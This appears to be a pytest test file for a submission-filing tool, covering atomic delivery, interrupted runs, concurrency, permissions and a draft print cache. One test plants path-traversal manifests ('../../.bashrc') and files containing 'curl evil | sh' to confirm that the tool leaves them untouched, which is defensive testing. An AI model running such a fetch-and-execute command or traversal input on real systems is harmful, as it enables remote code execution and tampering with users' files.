"""The folder of a submission: planted lists of files, runs at once, permissions."""

import hashlib
import json
import multiprocessing
import os
import shutil
from collections.abc import Callable, Iterator
from functools import partial
from pathlib import Path

import pytest
from msgspec.json import decode, encode
from msgspec.structs import replace

from certify.errors import NotConfigured
from certify.filing import delivery, documents
from certify.filing.delivery import COMMIT, Commit, Delivery, OutputFile, deliver
from certify.filing.documents import DRAFTS_KEPT, print_draft
from certify.model.submission import Status
from certify.storage import LOCK
from tests.homes import new_home

ID = "pairs.nevada.r1.2026-11-28"


def files(content: str = "new") -> list[OutputFile]:
    made = [
        OutputFile(part="rules.pdf", data=content.encode()),
        OutputFile(part="memo.pdf", data=content.encode(), confidential=True),
    ]
    listed = [
        {"name": file.name(ID), "sha256": hashlib.sha256(file.data).hexdigest()} for file in made
    ]
    data = json.dumps({"status": "draft", "files": listed}).encode()
    return [*made, OutputFile(part="manifest.json", data=data)]


def write(folder: Path, content: str = "new") -> Delivery:
    return deliver(folder, ID, files(content), status=Status.DRAFT)


def read_tree(folder: Path) -> dict[str, bytes]:
    paths = (path for path in folder.rglob("*") if path.is_file() and path.name != LOCK)
    return {path.relative_to(folder).as_posix(): path.read_bytes() for path in sorted(paths)}


def interrupt(monkeypatch: pytest.MonkeyPatch, folder: Path, content: str = "half") -> Path:
    """Stop a run after its list of files is written; return its hidden folder."""

    def stop(*_: object) -> None:
        raise KeyboardInterrupt

    with monkeypatch.context() as patched:
        patched.setattr(delivery, "_finish", stop)
        with pytest.raises(KeyboardInterrupt):
            write(folder, content)
    (hidden,) = folder.glob(f".{ID}.*")
    return hidden


PLANTED = [
    '{"files": ["../../.bashrc", "zz"], "stale": []}',
    '{"files": {"../../.bashrc": "0"}, "stale": {}, "mac": "0"}',
    '{"files": ["HOME/.bashrc"], "stale": ["../../.bashrc"]}',
    '{"files": [], "stale": []}',
    '{"files": {}, "stale": {}, "mac": ""}',
    "x",
    "[" * 100_000,
    "",
]


@pytest.mark.parametrize("listed", PLANTED, ids=range(len(PLANTED)))
@pytest.mark.parametrize("name", [f".{ID}.part", f".{ID}.0123abcd.0123456789abcdef.part"])
def test_a_planted_list_is_left_alone(tmp_path: Path, name: str, listed: str) -> None:
    mine = tmp_path / ".bashrc"
    mine.write_text("# mine")
    out = tmp_path / "project" / "out"
    planted = out / name
    planted.mkdir(parents=True)
    (planted / COMMIT).write_text(listed.replace("HOME", str(tmp_path)))
    for each in ("zz", ".bashrc"):
        (planted / each).write_text("curl evil | sh")
    before = read_tree(planted)
    written = write(out)
    assert mine.read_text() == "# mine"
    assert read_tree(planted) == before
    assert [path.read_bytes() for path in written.files] == [file.data for file in files()]
    (notice,) = written.notices
    assert str(planted) in notice


def plant_file(path: Path) -> None:
    path.write_bytes(b"mine")


def plant_link(path: Path) -> None:
    target = path.with_name("other")
    target.mkdir()
    (target / "mine").write_bytes(b"mine")
    path.symlink_to(target)


def plant_pipe(path: Path) -> None:
    path.mkdir()
    os.mkfifo(path / COMMIT)


@pytest.mark.parametrize("plant", [Path.mkdir, plant_file, plant_link, plant_pipe])
def test_anything_else_of_that_name_is_left_alone(
    tmp_path: Path, plant: Callable[[Path], object]
) -> None:
    planted = tmp_path / f".{ID}.part"
    plant(planted)
    written = write(tmp_path)
    assert os.path.lexists(planted)
    assert str(planted) in written.notices[0]


def test_a_run_of_this_user_is_finished(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    hidden = interrupt(monkeypatch, tmp_path)
    assert delivery.settle(tmp_path, ID) == ()
    assert not hidden.exists()
    assert read_tree(tmp_path) == {file.name(ID): file.data for file in files("half")}


def change_bytes(hidden: Path) -> None:
    (hidden / f"{ID}.rules.pdf").write_bytes(b"another")


def change_names(hidden: Path) -> None:
    listed = decode((hidden / COMMIT).read_bytes(), type=Commit)
    (hidden / COMMIT).write_bytes(encode(replace(listed, stale={f"{ID}.x": "0"})))


def link_file(hidden: Path) -> None:
    path = hidden / f"{ID}.rules.pdf"
    path.rename(hidden.with_name("kept"))
    path.symlink_to("../kept")


@pytest.mark.parametrize("change", [change_bytes, change_names, link_file])
def test_a_run_that_was_changed_is_left_alone(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, change: Callable[[Path], None]
) -> None:
    hidden = interrupt(monkeypatch, tmp_path)
    change(hidden)
    before = read_tree(hidden)
    assert str(hidden) in write(tmp_path).notices[0]
    assert read_tree(hidden) == before


def test_a_run_of_another_user_or_folder_is_left_alone(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with monkeypatch.context() as patched:
        home = new_home(tmp_path / "home")
        (home / "counts.key").write_bytes(b"another key".ljust(32))
        patched.setenv("CERTIFY_HOME", str(home))
        others = interrupt(monkeypatch, tmp_path / "out")
    elsewhere = interrupt(monkeypatch, tmp_path / "elsewhere")
    copied = tmp_path / "out" / elsewhere.name
    shutil.copytree(elsewhere, copied)
    notices = write(tmp_path / "out").notices
    assert others.is_dir()
    assert copied.is_dir()
    assert len(notices) == 2


def test_without_a_home_a_submission_is_written(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "file").touch()
    monkeypatch.setenv("CERTIFY_HOME", str(tmp_path / "file" / "home"))
    assert write(tmp_path / "out").notices == ()


@pytest.mark.parametrize(
    "name", ["certify.toml", "../letter.txt", f"{ID}.a/../../letter.txt", f"{ID}.a\\b", f"{ID}x"]
)
def test_an_earlier_manifest_takes_away_only_files_of_its_submission(
    tmp_path: Path, name: str
) -> None:
    out = tmp_path / "out"
    (out / f"{ID}.a").mkdir(parents=True)
    path = out / name
    path.write_bytes(b"mine")
    listed = [{"name": name, "sha256": hashlib.sha256(b"mine").hexdigest()}]
    (out / f"{ID}.manifest.json").write_text(json.dumps({"status": "draft", "files": listed}))
    write(out)
    assert path.read_bytes() == b"mine"


def test_runs_at_once_leave_one_submission_whole(tmp_path: Path) -> None:
    """Each run is whole or refused; the manifest always fits the files."""
    context = multiprocessing.get_context("fork")
    for _ in range(3):
        runs = [context.Process(target=write, args=(tmp_path, str(n))) for n in range(8)]
        for run in runs:
            run.start()
        for run in runs:
            run.join()
        assert [run.exitcode for run in runs] == [0] * len(runs)
        found = read_tree(tmp_path)
        content = found[f"{ID}.rules.pdf"].decode()
        assert found == {file.name(ID): file.data for file in files(content)}


def test_an_error_that_stays_is_not_an_error_of_the_disk(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """After the list is written, an error says that the next run finishes the submission."""
    move = Path.replace

    def broken(self: Path, target: Path) -> Path:
        if target.parent == tmp_path:
            raise OSError(5, "Input/output error")
        return move(self, target)

    with monkeypatch.context() as patched:
        patched.setattr(Path, "replace", broken)
        with pytest.raises(NotConfigured, match="is not complete: Input/output error") as raised:
            write(tmp_path)
    assert "it finishes this submission first" in raised.value.remedy
    assert delivery.settle(tmp_path, ID) == ()
    assert read_tree(tmp_path) == {file.name(ID): file.data for file in files()}


@pytest.fixture(params=[0o077, 0o022, 0o002, 0o000], ids=oct)
def umask(request: pytest.FixtureRequest) -> Iterator[int]:
    before = os.umask(request.param)
    yield request.param
    os.umask(before)


@pytest.mark.parametrize("open_to", [0o700, 0o750, 0o755, 0o777, 0o711])
def test_confidential_files_are_never_wider_than_their_folder(
    tmp_path: Path, umask: int, open_to: int
) -> None:
    tmp_path.chmod(open_to)
    rules, memo, manifest = write(tmp_path).files
    modes = [path.stat().st_mode & 0o777 for path in (rules, memo, manifest)]
    group = open_to & 0o060 if open_to & 0o020 else 0
    usual = 0o666 & ~umask
    assert modes == [usual | group, usual & open_to, usual | group]
    for path in (rules, memo):
        path.chmod(0o600)
    manifest.chmod(0o664)
    write(tmp_path, "newer")
    modes = [path.stat().st_mode & 0o777 for path in (rules, memo, manifest)]
    assert modes == [0o600, 0o600, 0o664]


WRITTEN: list[str] = []


def write_pages(html: str, *, style: Path | None = None) -> bytes:
    """Stand for a printer: note each call."""
    WRITTEN.append(html)
    return f"{html}, {style and style.read_text()}".encode()


@pytest.fixture(autouse=True)
def store(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("CERTIFY_CACHE", str(tmp_path / "cache"))
    WRITTEN.clear()
    return tmp_path / "cache" / "pages"


def print_all(*texts: str) -> list[bytes]:
    return [print_draft(partial(write_pages, text, style=None)) for text in texts]


def test_an_unchanged_draft_is_printed_once() -> None:
    assert print_all("a", "b", "a") == [b"a, None", b"b, None", b"a, None"]
    assert WRITTEN == ["a", "b"]


def test_a_changed_style_sheet_is_printed_again(tmp_path: Path) -> None:
    style = tmp_path / "style.css"
    for text in ("one", "two", "two"):
        style.write_text(text)
        assert print_draft(partial(write_pages, "a", style=style)) == f"a, {text}".encode()
    assert len(WRITTEN) == 2


def test_another_version_of_a_library_prints_again(monkeypatch: pytest.MonkeyPatch) -> None:
    print_all("a")
    monkeypatch.setattr(documents, "list_versions", lambda: {"libraries": {"pango": "2"}})
    print_all("a")
    assert WRITTEN == ["a", "a"]


def test_an_altered_file_is_printed_again(store: Path) -> None:
    print_all("a")
    (kept,) = store.glob("*.pdf")
    kept.write_bytes(kept.read_bytes().replace(b"a, None", b"x, None"))
    assert print_all("a") == [b"a, None"]
    assert WRITTEN == ["a", "a"]


def test_the_latest_documents_are_kept(store: Path) -> None:
    print_all("first")
    (first,) = store.glob("*.pdf")
    os.utime(first, (0, 0))
    print_all(*map(str, range(DRAFTS_KEPT)))
    assert len([*store.glob("*.pdf")]) == DRAFTS_KEPT
    assert not first.exists()


def test_a_store_that_cannot_be_used_costs_no_page(tmp_path: Path) -> None:
    (tmp_path / "cache").write_text("a file")
    assert print_all("a", "a") == [b"a, None", b"a, None"]
    assert WRITTEN == ["a", "a"]


def test_an_error_of_the_printer_is_raised_and_nothing_is_printed_twice() -> None:
    tried = []

    def refuse(html: str, *, style: Path | None = None) -> bytes:
        tried.append((html, style))
        raise BrokenPipeError

    with pytest.raises(BrokenPipeError):
        print_draft(partial(refuse, "a", style=None))
    assert tried == [("a", None)]
